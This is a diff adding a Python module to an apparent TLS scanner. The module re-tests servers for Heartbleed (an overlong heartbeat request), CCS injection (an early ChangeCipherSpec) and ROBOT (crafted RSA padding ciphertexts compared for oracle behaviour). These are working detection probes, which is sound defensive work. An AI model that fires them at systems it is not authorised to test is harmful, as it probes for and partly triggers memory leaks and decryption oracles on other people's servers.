@@ -1,0 +1,226 @@
+"""Three attacks, tried once more in another way than the handshake engine's: Heartbleed, CCS injection, ROBOT.
+
+They are made of the survey's hellos and of records written here, and share nothing with the engine whose finding they
+are to confirm but the server. Each asks for no more than proves it, and tells what it saw in words.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+from collections.abc import Awaitable, Callable, Sequence
+from dataclasses import dataclass
+from functools import partial
+from typing import Final
+
+from cryptography import x509
+from cryptography.hazmat.primitives.asymmetric import rsa
+from tlslite.constants import AlertDescription, ContentType, HandshakeType  # type: ignore[import-untyped]  # no types
+
+from scanner.evidence import Failure
+from scanner.probe.net.connection import TcpStream
+from scanner.probe.survey.client import HelloClient
+from scanner.probe.survey.hello import WIRE_VERSIONS, Offer, to_wire
+from scanner.probe.survey.server_flight import RECORD_LIMIT, TOTAL_LIMIT
+
+_HEARTBEAT: Final = 24
+_HEARTBEAT_EXTENSION: Final = bytes.fromhex("000f000101")
+_CLAIMED: Final = 16
+"""Bytes that the overlong heartbeat claims, beyond the none that it has."""
+_WAIT_S: Final = 1.0
+"""How long a server may take to say something about a message that it should not get."""
+_RECORD: Final = 5
+_MESSAGE: Final = 4
+_SECRET: Final = 48
+_SERIES: Final = 2
+
+
+class _OtherwiseError(Exception):
+    """The handshake did not come as far as the attack; the argument says what happened."""
+
+
+@dataclass(frozen=True, slots=True)
+class Second:
+    """What a second probe saw: whether the finding holds, and in words what was observed."""
+
+    confirmed: bool
+    observed: str
+
+
+async def heartbleed(client: HelloClient, offer: Offer) -> Second:
+    """Send a heartbeat that claims sixteen bytes and has none."""
+
+    async def talk(stream: TcpStream) -> Second:
+        reader = _Records(stream)
+        await stream.send(_with_heartbeat(to_wire(offer)))
+        await reader.until_done()
+        request = b"\x01" + _CLAIMED.to_bytes(2)
+        await stream.send(_record(offer, _HEARTBEAT, request))
+        kind, body = await reader.within(_WAIT_S)
+        if kind == _HEARTBEAT and body[:1] == b"\x02" and len(body) >= 3 + _CLAIMED:
+            return Second(confirmed=True, observed="an overlong heartbeat was answered")
+        return Second(confirmed=False, observed=f"an overlong heartbeat was met with {_named(kind, body)}")
+
+    return await _tried(client, talk)
+
+
+async def ccs_injection(client: HelloClient, offer: Offer) -> Second:
+    """Send a ChangeCipherSpec before any key, and then a record that only who obeyed would try to decrypt."""
+
+    async def talk(stream: TcpStream) -> Second:
+        reader = _Records(stream)
+        await stream.send(to_wire(offer))
+        await reader.until_done()
+        await stream.send(_record(offer, ContentType.change_cipher_spec, b"\x01"))
+        kind, body = await reader.within(_WAIT_S)
+        if kind is not None:
+            return Second(confirmed=False, observed=f"an early ChangeCipherSpec was met with {_named(kind, body)}")
+        await stream.send(_record(offer, ContentType.handshake, os.urandom(64)))
+        kind, body = await reader.within(_WAIT_S)
+        obeyed = kind == ContentType.alert and body[1:2] in {b"\x14", b"\x15"}  # bad_record_mac, decryption_failed
+        word = "was obeyed" if obeyed else f"and a record after it were met with {_named(kind, body)}"
+        return Second(confirmed=obeyed, observed=f"an early ChangeCipherSpec {word}")
+
+    return await _tried(client, talk)
+
+
+async def robot(client: HelloClient, offer: Offer) -> Second:
+    """Send three RSA ciphertexts, one of them right, each twice: an oracle answers each alike, and them differently."""
+    answers: dict[str, set[str]] = {}
+    for _ in range(_SERIES):
+        for name in ("right padding", "no padding", "no end of the padding"):
+            second = await _tried(client, partial(_padded, offer=offer, padding=name))
+            answers.setdefault(name, set()).add(second.observed)
+    told = "; ".join(f"{name}: {' or '.join(sorted(seen))}" for name, seen in answers.items())
+    steady = all(len(seen) == 1 for seen in answers.values())
+    different = len({next(iter(seen)) for seen in answers.values()}) > 1
+    return Second(confirmed=steady and different, observed=told)
+
+
+async def _padded(stream: TcpStream, offer: Offer, padding: str) -> Second:
+    reader = _Records(stream)
+    await stream.send(to_wire(offer))
+    key = _rsa_key(await reader.until_done())
+    size = (key.n.bit_length() + 7) // 8
+    secret = bytes(WIRE_VERSIONS[offer.highest]) + bytes(range(1, _SECRET - 1))
+    filling = bytes(1 + index % 255 for index in range(size - _SECRET - 3))
+    block = {
+        "right padding": b"\x00\x02" + filling + b"\x00" + secret,
+        "no padding": b"\x41\x17" + filling + b"\x00" + secret,
+        "no end of the padding": b"\x00\x02" + filling + b"\x11" + secret,
+    }[padding]
+    encrypted = pow(int.from_bytes(block) % key.n, key.e, key.n).to_bytes(size)
+    body = len(encrypted).to_bytes(2) + encrypted
+    exchange = bytes([HandshakeType.client_key_exchange]) + len(body).to_bytes(3) + body
+    await stream.send(
+        _record(offer, ContentType.handshake, exchange)
+        + _record(offer, ContentType.change_cipher_spec, b"\x01")
+        + _record(offer, ContentType.handshake, bytes(64))
+    )
+    return Second(confirmed=False, observed=_named(*await reader.within(_WAIT_S)))
+
+
+async def _tried(client: HelloClient, talk: Callable[[TcpStream], Awaitable[Second]]) -> Second:
+    try:
+        outcome = await client.converse(talk)
+    except _OtherwiseError as error:
+        return Second(confirmed=False, observed=str(error))
+    if not isinstance(outcome, Failure):
+        return outcome
+    detail = f" ({outcome.detail})" if outcome.detail else ""
+    return Second(confirmed=False, observed=f"{outcome.reason}{detail}")
+
+
+def _rsa_key(chain: Sequence[bytes]) -> rsa.RSAPublicNumbers:
+    try:
+        key = x509.load_der_x509_certificate(chain[0]).public_key()
+    except Exception as error:
+        raise _OtherwiseError("the certificate cannot be read") from error
+    if not isinstance(key, rsa.RSAPublicKey):
+        raise _OtherwiseError("the certificate has no RSA key")
+    return key.public_numbers()
+
+
+class _Records:
+    """Reads records, and of a first flight the certificates."""
+
+    def __init__(self, stream: TcpStream) -> None:
+        self._stream = stream
+        self._bytes = bytearray()
+        self._total = 0
+
+    async def until_done(self) -> tuple[bytes, ...]:
+        """Read the server's first flight to its end, and return its certificates.
+
+        Raises:
+            _OtherwiseError: it does not come to that.
+        """
+        messages = bytearray()
+        chain: list[bytes] = []
+        while True:
+            kind, body = await self._next()
+            if kind != ContentType.handshake:
+                raise _OtherwiseError(f"the hello was met with {_named(kind, body)}")
+            messages += body
+            while len(messages) >= _MESSAGE and len(messages) >= _MESSAGE + int.from_bytes(messages[1:4]):
+                end = _MESSAGE + int.from_bytes(messages[1:4])
+                message, messages = bytes(messages[:end]), messages[end:]
+                if message[0] == HandshakeType.server_hello_done:
+                    return tuple(chain)
+                if message[0] == HandshakeType.certificate:
+                    first = 7 + int.from_bytes(message[7:10]) + 3
+                    chain = [message[10:first]]
+
+    async def within(self, seconds: float) -> tuple[int | None, bytes]:
+        """The next record: its kind and content. None for silence; -1 for the end of the connection."""
+        try:
+            async with asyncio.timeout(seconds):
+                return await self._next()
+        except TimeoutError:
+            return None, b""
+
+    async def _next(self) -> tuple[int, bytes]:
+        while True:
+            if len(self._bytes) >= _RECORD:
+                end = _RECORD + int.from_bytes(self._bytes[3:_RECORD])
+                if end > _RECORD + RECORD_LIMIT:
+                    raise _OtherwiseError("a record longer than there are")
+                if len(self._bytes) >= end:
+                    record = bytes(self._bytes[:end])
+                    del self._bytes[:end]
+                    return record[0], record[_RECORD:]
+            try:
+                data = await self._stream.receive()
+            except OSError:
+                return -2, b""
+            self._total += len(data)
+            if not data:
+                return -1, b""
+            if self._total > TOTAL_LIMIT:
+                raise _OtherwiseError("more bytes than a handshake has")
+            self._bytes += data
+
+
+def _named(kind: int | None, body: bytes) -> str:
+    ends = {None: "silence", -1: "the end of the connection", -2: "a reset"}
+    if kind in ends:
+        return ends[kind]
+    if kind == ContentType.alert and len(body) > 1:
+        return f"the alert {AlertDescription.toRepr(body[1]) or body[1]}"
+    return f"a record of type {kind}"
+
+
+def _record(offer: Offer, kind: int, body: bytes) -> bytes:
+    return bytes([kind, *WIRE_VERSIONS[offer.highest]]) + len(body).to_bytes(2) + body
+
+
+def _with_heartbeat(hello: bytes) -> bytes:
+    """The same hello with the extension that allows heartbeats (RFC 6520 section 2)."""
+    at = _RECORD + _MESSAGE + 2 + 32
+    at += 1 + hello[at]  # the session id
+    at += 2 + int.from_bytes(hello[at : at + 2])  # the suites
+    at += 1 + hello[at]  # the compression methods
+    extensions = hello[at + 2 :] + _HEARTBEAT_EXTENSION
+    body = hello[_RECORD + _MESSAGE : at] + len(extensions).to_bytes(2) + extensions
+    message = hello[_RECORD : _RECORD + 1] + len(body).to_bytes(3) + body
+    return hello[: _RECORD - 2] + len(message).to_bytes(2) + message
